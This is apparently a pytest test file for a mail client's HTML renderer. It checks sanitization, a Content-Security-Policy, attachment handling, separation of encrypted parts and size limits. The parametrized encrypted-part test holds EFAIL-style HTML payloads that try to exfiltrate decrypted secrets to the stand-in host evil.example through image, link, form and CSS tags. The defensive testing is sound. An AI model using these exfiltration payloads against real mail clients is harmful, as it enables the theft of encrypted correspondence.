"""A mail as a page: every body made safe for itself, nothing encrypted in it, nothing to be fetched."""

from __future__ import annotations

import re

import pytest

from maildesk.errors import Unreadable
from maildesk.mail.html_page import POLICY, page_of
from maildesk.mail.mime.limits import ReadingLimits
from maildesk.mail.reading import bodies_of
from tests.cost import at_most
from tests.unit.mail.html.safe_grammar import check

TOP = b"From: bo@client.example\r\nSubject: Hello\r\n"


def part(content_type: str, body: str, *more: str) -> bytes:
    return "\r\n".join((f"Content-Type: {content_type}", *more, "", body)).encode()


def multipart(kind: str, *parts: bytes, boundary: str = "b") -> bytes:
    line = b"\r\n--" + boundary.encode()
    body = b"".join(line + b"\r\n" + each for each in parts) + line + b"--\r\n"
    return f'Content-Type: multipart/{kind}; boundary="{boundary}"\r\n\r\n'.encode() + body


def shown(raw: bytes) -> list[str]:
    """The bodies as the page holds them."""
    found = re.search(r"<body>\n(.*)\n</body></html>\n\Z", page_of(raw, "Hello"), re.DOTALL)
    assert found
    pieces = found[1].split("\n<hr>\n")
    for piece in pieces:
        check(piece)
    return pieces


def test_the_page_lets_the_browser_fetch_run_and_send_nothing() -> None:
    page = page_of(TOP + part("text/html", "<p>Hi</p>"), 'A "<title>"')
    head, _, _ = page.partition("</head>")
    assert f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">' in head
    assert "default-src 'none'" in POLICY
    assert "<title>A &quot;&lt;title&gt;&quot;</title>" in head
    assert head.index("Content-Security-Policy") < head.index("<title>")


def test_of_alternatives_the_html_is_shown() -> None:
    raw = TOP + multipart("alternative", part("text/plain", "plain"), part("text/html", "<b>rich</b>"))
    assert shown(raw) == ["<b>rich</b>"]


def test_a_mail_of_plain_text_is_shown_as_it_is() -> None:
    assert shown(TOP + part("text/plain", "a <b>\r\n  c & d")) == ["<pre>\na &lt;b&gt;\n  c &amp; d</pre>"]


def test_the_charset_of_each_body_is_its_own() -> None:
    raw = TOP + multipart(
        "mixed",
        part("text/html; charset=iso-8859-1", "<p>caf=E9</p>", "Content-Transfer-Encoding: quoted-printable"),
        part("text/html; charset=utf-8", "<p>café</p>"),
    )
    assert shown(raw) == ["<p>café</p>", "<p>café</p>"]


def test_files_are_named_and_never_shown() -> None:
    raw = TOP + multipart(
        "mixed",
        part("text/html", "<p>Hi</p><img src='cid:1'>"),
        part("text/html; name=bad.html", "<script>bad()</script>", "Content-Disposition: attachment"),
    )
    assert shown(raw) == ["<p>Hi</p>", "<p>Attached:</p><ul><li>bad.html (text/html, 22 bytes)</li></ul>"]


# --- what is encrypted stays apart ----------------------------------------------------------------

SECRET = "the secret words"
WRAPPED = {
    "s-mime": part("application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m", SECRET),
    "pgp-mime": multipart(
        "encrypted",
        part("application/pgp-encrypted", "Version: 1"),
        part("application/octet-stream; name=encrypted.asc", SECRET),
        boundary="e",
    ),
    "html-in-encrypted": multipart("encrypted", part("text/html", f"<p>{SECRET}</p>"), boundary="e"),
    "text-in-encrypted": multipart("encrypted", part("text/plain", SECRET), boundary="e"),
}


@pytest.mark.parametrize("name", WRAPPED)
@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("<img src='http://evil.example/?", "'>"),
        ('<a href="http://evil.example/?', '">x</a>'),
        ("<form action='http://evil.example/'><textarea name=x>", "</textarea></form>"),
        ("<style>*{background:url(http://evil.example/?", ")}</style>"),
        ("<svg><text>", "</text></svg>"),
        ("<!--", "-->"),
    ],
    ids=["image", "link", "form", "style", "svg", "comment"],
)
def test_html_around_an_encrypted_part_never_gets_hold_of_it(name: str, before: str, after: str) -> None:
    raw = TOP + multipart("mixed", part("text/html", before), WRAPPED[name], part("text/html", after))
    page = page_of(raw)
    assert SECRET not in page
    assert not re.search(r"<[^>]*evil\.example", page)
    shown(raw)
    assert "encrypted" in page.lower() or "smime.p7m" in page


def test_a_body_left_open_does_not_reach_into_the_next() -> None:
    raw = TOP + multipart("mixed", part("text/html", "<b><pre><!-- "), part("text/html", "--> two"))
    assert shown(raw)[-1] == "--&gt; two"


# --- bounded --------------------------------------------------------------------------------------


def test_a_mail_beyond_a_limit_is_refused() -> None:
    with pytest.raises(Unreadable):
        page_of(TOP + part("text/html", "x" * 100), limits=ReadingLimits(parse_size=50))


def test_a_long_mail_is_cut_and_says_so() -> None:
    page = page_of(TOP + part("text/html", "<p>words</p>" * 100_000))
    assert "The mail is longer" in page
    assert len(page) < 2**20


def test_many_hostile_bodies_cost_no_more_than_one() -> None:
    body = part("text/html", "<blockquote>&" * 5_000)
    with at_most(400):
        page = page_of(TOP + multipart("mixed", *[body] * 400))
    assert "The mail is longer" in page


def test_bodies_are_given_one_by_one_as_they_came() -> None:
    raw = TOP + multipart("mixed", part("text/html", "<b>1"), part("text/plain", "2"), part("text/html", "3"))
    assert list(bodies_of(raw)) == [("text/html", "<b>1"), ("text/plain", "2"), ("text/html", "3")]
